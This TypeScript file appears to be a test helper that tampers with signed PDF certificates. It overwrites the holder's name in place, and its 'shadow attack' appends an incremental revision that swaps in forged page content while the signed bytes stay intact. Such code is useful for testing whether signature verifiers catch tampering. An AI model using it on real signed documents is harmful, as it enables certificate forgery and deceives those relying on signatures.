/** A comment in the page's content, right before the holder's name is drawn. */
export const holderMark = '%holder';

/** Writes X over the holder's name. No length changes, so only the digest can tell. */
export function forgeInPlace(pdf: Buffer): Buffer {
  const text = pdf.toString('latin1');
  const mark = text.indexOf(`${holderMark}\n`);
  const end = text.indexOf('] TJ', mark);
  if (mark === -1 || end === -1) throw new Error('the certificate names no holder');
  // PDFKit writes text as hexadecimal pieces with the kerning between them.
  const forged = text
    .slice(mark, end)
    .replace(/<([0-9a-f]+)>/g, (_, hex: string) => `<${hex.replace(/../g, forgedLetter)}>`);
  return Buffer.from(text.slice(0, mark) + forged + text.slice(end), 'latin1');
}

const space = '20';
const x = '58';
const z = '5a';

function forgedLetter(letter: string): string {
  if (letter === space) return space;
  return letter === x ? z : x;
}

/**
 * The shadow attack: appends a revision in which the first page has a forged content. What was signed is untouched, and
 * no longer what a reader shows.
 */
export function shadowContent(pdf: Buffer): Buffer {
  const text = pdf.toString('latin1');
  const content = contentObject(forgeInPlace(pdf).toString('latin1'));
  const objectAt = text.length + 1;
  const tableAt = objectAt + content.text.length + 1;
  const row = `${String(objectAt).padStart(10, '0')} 00000 n `;
  const table = `xref\n${content.number} 1\n${row}\ntrailer\n${nextTrailer(text)}\nstartxref\n${tableAt}\n%%EOF\n`;
  return Buffer.from(`${text}\n${content.text}\n${table}`, 'latin1');
}

function contentObject(text: string): { number: number; text: string } {
  const mark = text.indexOf(holderMark);
  const start = text.lastIndexOf(' 0 obj\n', mark);
  const number = Number(/\d+$/.exec(text.slice(0, start))?.[0]);
  const end = text.indexOf('endobj', mark) + 'endobj'.length;
  return { number, text: text.slice(start - String(number).length, end) };
}

/** The same as before, and where the table before stands. */
function nextTrailer(text: string): string {
  const [, entries, tableAt] = /trailer\n<<([\s\S]*)>>\s*startxref\n(\d+)\n%%EOF\s*$/.exec(text) ?? [];
  if (entries === undefined) throw new Error('the document has no trailer');
  return `<<${entries}/Prev ${tableAt}\n>>`;
}
